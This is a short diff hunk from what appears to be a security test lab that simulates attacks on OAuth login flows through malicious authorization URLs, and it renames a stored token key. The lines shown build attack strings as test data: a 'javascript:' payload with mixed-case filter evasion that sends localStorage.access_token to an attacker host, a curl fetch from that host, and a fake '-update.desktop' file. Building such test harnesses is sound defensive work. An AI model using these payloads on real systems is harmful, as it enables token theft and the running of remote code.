@@ -208,8 +208,8 @@ async def url_story(ctx: LabContext, defence: UrlOpening) -> Outcome:
     login = OAuthAuthorizationServer(issuer, table, ScriptedUser(victim), resources=(resource,),
                                      scopes_supported=("files:read", "files:write"))
     app = login.preregister("Desk", [f"http://127.0.0.1:{port}/callback"])
-    stored = {"token": f"at_{sim.token(16)}"}  # what the app keeps for another Server
-    steal = f"fetch('https://{evil}/c?t='+localStorage.token)//"
+    stored = {"access_token": f"at_{sim.token(16)}"}  # what the app keeps for another Server
+    steal = f"fetch('https://{evil}/c?t='+localStorage.access_token)//"
     program = f"/home/{victim.subject.split('.')[0]}/Downloads/{pick_name(rng, 'server')}-update.desktop"
     payload = f"curl -s https://{evil}/x"
     endpoint = {"mixed-case": f"JaVaScRiPt:{steal}",
